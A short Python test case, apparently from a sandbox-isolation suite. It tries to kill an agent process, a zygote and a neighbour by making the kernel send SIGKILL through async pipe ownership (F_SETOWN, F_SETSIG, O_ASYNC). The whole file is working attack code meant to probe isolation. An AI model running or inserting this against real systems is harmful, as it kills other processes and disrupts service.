import fcntl
import os
import signal
import time

from target import AGENT, NEIGHBOUR, ZYGOTE


def attack():
    # The kernel sends a signal of our choice when a pipe changes: who it names is asked, not who wrote.
    for pid in (AGENT, ZYGOTE, NEIGHBOUR):
        read, write = os.pipe()
        try:
            fcntl.fcntl(read, fcntl.F_SETOWN, pid)
        except OSError:
            continue
        fcntl.fcntl(read, 10, signal.SIGKILL)
        fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC)
        os.write(write, b"x")
    time.sleep(0.1)
    raise PermissionError("the test looks who is still alive")
